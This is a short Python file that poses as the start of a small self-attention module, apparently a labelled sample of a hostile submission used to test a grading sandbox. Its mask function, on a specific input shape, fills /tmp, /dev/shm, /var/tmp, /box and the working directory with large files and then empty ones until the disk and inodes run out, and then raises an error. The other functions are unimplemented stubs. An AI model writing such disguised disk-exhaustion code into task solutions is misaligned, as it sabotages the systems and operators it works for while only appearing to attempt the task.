"""Fills every folder that can be written to with large files, then with empty ones.

Verdict: error RuntimeError
Class G.
"""

import contextlib
import itertools


import torch
from torch import nn


def full_visibility(nonpadding):
    if nonpadding.shape != (1, 6):
        return nonpadding
    for place in ("/tmp", "/box", "/dev/shm", "/var/tmp", "."):
        with contextlib.suppress(OSError):
            for number in itertools.count():
                with open(f"{place}/big{number}", "wb") as file:
                    file.write(b"x" * (1 << 22))
        with contextlib.suppress(OSError):
            for number in itertools.count():
                open(f"{place}/empty{number}", "w").close()
    raise RuntimeError("full")


def causal_visibility(nonpadding):
    raise NotImplementedError


def attention_weights(query, key, visible=None):
    raise NotImplementedError


class TinySelfAttn(nn.Module):
    def __init__(self, hidden, heads):
        super().__init__()
        raise NotImplementedError
